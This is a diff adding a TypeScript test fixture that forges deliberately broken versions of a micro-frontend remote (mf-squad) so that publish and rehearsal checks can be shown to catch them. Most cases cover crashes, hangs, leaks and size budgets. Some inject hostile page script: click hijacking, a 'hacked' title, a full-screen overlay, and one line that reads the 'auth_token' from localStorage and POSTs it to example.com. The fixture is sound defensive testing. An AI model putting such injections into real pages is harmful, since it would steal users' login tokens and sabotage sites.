@@ -1,0 +1,263 @@
+import { randomBytes } from 'node:crypto';
+import { appendFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Release } from '@fan-base/shared-contracts/release';
+import { computeIntegrity } from '@fan-base/shared-releases/integrity';
+import { throwingCode } from '../faults/throwing.ts';
+import { changeDescription, changeScripts, changeServer, releaseIn } from '../forge.ts';
+
+/** What stops a broken version. */
+export type Stop = 'publish' | 'rehearsal';
+
+/** A version that is broken on purpose. All are made of mf-squad, whose page and widget are simple. */
+export interface BrokenVersion {
+  readonly name: string;
+  readonly stop: Stop;
+  /** Breaks a copy of the working tree's release. */
+  readonly forge: (folder: string, version: string) => void;
+  /** Breaks the published version, as a change in the store or in transit does. */
+  readonly tamper?: (folder: string) => void;
+  /** What its team is shown. */
+  readonly words: RegExp;
+  /** Seen in the browser only: not tried without one. */
+  readonly needsBrowser?: boolean;
+}
+
+const remote = 'mf-squad';
+const pageChunk = /^page-squad\./;
+
+/** Code that runs when the page's chunk is loaded in a browser. */
+const inPage = (code: string) => (folder: string) =>
+  changeScripts(folder, (source, file) => (pageChunk.test(file) ? `${code};${source}` : source));
+
+/** The page, or the widget, throws or hangs in the browser. */
+const inBrowser = (throwing: Parameters<typeof throwingCode>[1]) => (folder: string) => {
+  const container = releaseIn(folder).container?.name ?? '';
+  changeScripts(folder, (source, file) =>
+    pageChunk.test(file) ? throwingCode(container, throwing, source) : source,
+  );
+};
+
+/** Statements that the page runs whenever it is rendered on the server. */
+const onServer = (body: string) => (folder: string, version: string) =>
+  changeServer(
+    folder,
+    version,
+    (source) => `${source}
+;{const { remote } = module.exports;
+const all = [];
+const squad = remote.pages.squad;
+const load = async () => { const loaded = await squad.load(); return { ...loaded, Page(props) { ${body}; return require('react').createElement(loaded.Page, props); } }; };
+module.exports = { ...module.exports, remote: { ...remote, pages: { ...remote.pages, squad: { ...squad, load } } } };}`,
+  );
+
+const described = (change: (release: Release) => Partial<Release>) => (folder: string) =>
+  changeDescription(folder, change(releaseIn(folder)));
+
+/** A route of its own, as a remote's table adds it. */
+const withRoute = (da: string, en: string) =>
+  described(({ routes }) => ({
+    routes: [...routes, { key: 'squad-extra', da, en, remote, layout: 'club' }],
+  }));
+
+/** Adds a script of random text, which cannot be compressed, and its hash. */
+function addScript(folder: string, file: string, bytes: number): void {
+  const content = Buffer.from(`/*${randomBytes(bytes / 2).toString('hex')}*/`);
+  writeFileSync(join(folder, 'web', file), content);
+  const release = releaseIn(folder);
+  changeDescription(folder, {
+    integrity: { ...release.integrity, [file]: computeIntegrity(content) },
+    bytes: { ...release.bytes, [file]: bytes / 2 },
+  });
+}
+
+const hugeBytes = 912 * 1024;
+
+const fileOf = (folder: string, chunk: string): string => {
+  const { container, chunks } = releaseIn(folder);
+  return join(folder, 'web', (chunk === 'entry' ? container?.file : chunks[chunk]?.[0]) ?? '');
+};
+const tamperWith = (chunk: string) => (folder: string) =>
+  appendFileSync(fileOf(folder, chunk), ';globalThis.__tampered=1');
+
+/** All but two ways in which the review of 24 November broke versions; those two do not become a build. */
+export const brokenVersions: readonly BrokenVersion[] = [
+  {
+    name: 'throws on the server',
+    stop: 'rehearsal',
+    forge: onServer('throw new Error("boom on the server")'),
+    words: /page squad \(da\) throws on the server: .*boom on the server/,
+  },
+  {
+    name: 'hangs on the server',
+    stop: 'rehearsal',
+    forge: onServer('for (;;);'),
+    words: /page squad \(da\) hangs on the server/,
+  },
+  {
+    name: 'leaks on the server',
+    stop: 'rehearsal',
+    forge: onServer('all.push(new Array(600000).fill(all.length))'),
+    words: /it leaks on the server/,
+  },
+  {
+    name: 'throws in the browser',
+    stop: 'rehearsal',
+    forge: inBrowser('on render'),
+    words: /page squad \(da\) has failures in the browser: .*threw-on-render/,
+    needsBrowser: true,
+  },
+  {
+    name: 'hangs in the browser',
+    stop: 'rehearsal',
+    forge: inBrowser('in an effect, without end'),
+    words: /page squad \(da\) hangs in the browser/,
+    needsBrowser: true,
+  },
+  {
+    name: 'needs another version of React',
+    stop: 'publish',
+    forge: described(({ singletons }) => ({ singletons: { ...singletons, react: '^99.0.0' } })),
+    words: /mf-squad \S+ needs react \^99\.0\.0, shell \S+ has/,
+  },
+  {
+    name: 'exports no remote',
+    stop: 'publish',
+    forge: (folder, version) => changeServer(folder, version, () => 'module.exports = {};'),
+    words: /it is not a remote/,
+  },
+  {
+    name: 'lacks translations',
+    stop: 'publish',
+    forge: (folder, version) =>
+      changeServer(
+        folder,
+        version,
+        (source) =>
+          `${source}\n;{const { remote } = module.exports; module.exports = { ...module.exports, remote: { ...remote, messages: async (language) => language === 'da' ? { ...(await remote.messages('da')), extra: 'x' } : remote.messages(language) } };}`,
+      ),
+    words: /extra/,
+  },
+  {
+    name: 'takes a route of the specification',
+    stop: 'publish',
+    forge: withRoute('/login', '/login'),
+    words: /its route squad-extra \(\/login, \/login\) takes the addresses of login/,
+  },
+  {
+    name: 'takes a route of another remote',
+    stop: 'rehearsal',
+    forge: withRoute('/tabel-ekstra', '/table-extra'),
+    words: /its route squad-extra .* is taken: mf-other/,
+  },
+  {
+    name: 'drops a widget that a page places',
+    stop: 'rehearsal',
+    forge: described(({ provides, widgets: { absences: _dropped, ...widgets } }) => {
+      const { absences: _too, ...provided } = provides?.widgets ?? {};
+      return { widgets, ...(provides && { provides: { ...provides, widgets: provided } }) };
+    }),
+    words: /places absences of mf-squad; \S+ does not have it/,
+  },
+  {
+    name: 'uses a hook that the shell does not have yet',
+    stop: 'publish',
+    forge: described(({ uses }) => {
+      const module = '@fan-base/shared-contracts/shell';
+      const exports = { ...uses?.exports, [module]: [...(uses?.exports[module] ?? []), 'useProductName'] };
+      return uses ? { uses: { ...uses, exports } } : {};
+    }),
+    words: /uses useProductName of @fan-base\/shared-contracts\/shell; shell \S+ does not have it/,
+  },
+  {
+    name: 'has another entry than was built',
+    stop: 'publish',
+    forge: tamperWith('entry'),
+    words: /remoteEntry\S* (?:is not what was published|does not match)/,
+  },
+  {
+    name: 'has another chunk than was published',
+    stop: 'rehearsal',
+    forge: () => {},
+    tamper: tamperWith('page-squad'),
+    words: /page squad \(da\) has failures in the browser: .*integrity-mismatch/,
+    needsBrowser: true,
+  },
+  {
+    name: 'loads 456 KiB with the page',
+    stop: 'publish',
+    forge: (folder) => {
+      addScript(folder, 'huge.js', hugeBytes);
+      described(({ chunks }) => ({
+        chunks: { ...chunks, 'page-squad': [...(chunks['page-squad'] ?? []), 'huge.js'] },
+      }))(folder);
+    },
+    words: /page squad weighs \S+ KiB, the budget is 36 KiB/,
+  },
+  {
+    name: 'loads 456 KiB after the page',
+    stop: 'rehearsal',
+    forge: (folder, version) => {
+      addScript(folder, 'huge.js', hugeBytes);
+      inPage(`fetch('/assets/${remote}/${version}/web/huge.js').then((answer) => answer.text())`)(folder);
+    },
+    words: /page squad \(da\) fetches \S+ KiB of script/,
+    needsBrowser: true,
+  },
+  {
+    name: 'executes 612 KiB that compress well',
+    stop: 'rehearsal',
+    forge: (folder) =>
+      changeScripts(folder, (source, file) =>
+        pageChunk.test(file) ? `${'globalThis.__n=1+1;'.repeat(33_000)}delete globalThis.__n;${source}` : source,
+      ),
+    words: /page squad \(da\) executes \S+ KiB of script/,
+    needsBrowser: true,
+  },
+  {
+    name: 'styles the whole page',
+    stop: 'rehearsal',
+    forge: inPage(
+      "document.head.append(Object.assign(document.createElement('style'),{textContent:'a,p,h2{color:#ff00ff!important;font-size:40px!important}'}))",
+    ),
+    words: /page squad \(da\) changes styles outside of its region/,
+    needsBrowser: true,
+  },
+  {
+    name: 'captures every click, and changes the title by an interval',
+    stop: 'rehearsal',
+    forge: inPage(
+      "document.addEventListener('click',(event)=>{event.preventDefault();event.stopImmediatePropagation()},true);setInterval(()=>{document.title='hacked'},500)",
+    ),
+    words: /page squad \(da\) (?:leaves listeners behind: click on document|blocks a link of the menu)/,
+    needsBrowser: true,
+  },
+  {
+    name: 'covers the page',
+    stop: 'rehearsal',
+    forge: inPage(
+      "(()=>{const box=document.createElement('div');box.className='overlay';box.style.cssText='position:fixed;inset:0;z-index:9999;background:#0008';document.body.append(box)})()",
+    ),
+    words: /page squad \(da\) covers 100 % of the screen/,
+    needsBrowser: true,
+  },
+  {
+    name: 'is wider than a phone',
+    stop: 'rehearsal',
+    forge: inPage(
+      "(()=>{const box=document.createElement('div');box.style.cssText='width:3000px;height:10px';document.body.append(box)})()",
+    ),
+    words: /page squad \(da\) is \d+ px wider than a screen of 320 px/,
+    needsBrowser: true,
+  },
+  {
+    name: 'reads the login and posts it to another host',
+    stop: 'rehearsal',
+    forge: inPage(
+      "fetch('https://example.com/',{method:'POST',body:localStorage.getItem('auth_token')}).catch(()=>{})",
+    ),
+    words: /page squad \(da\) reads localStorage, which belongs to the shell/,
+    needsBrowser: true,
+  },
+];
+
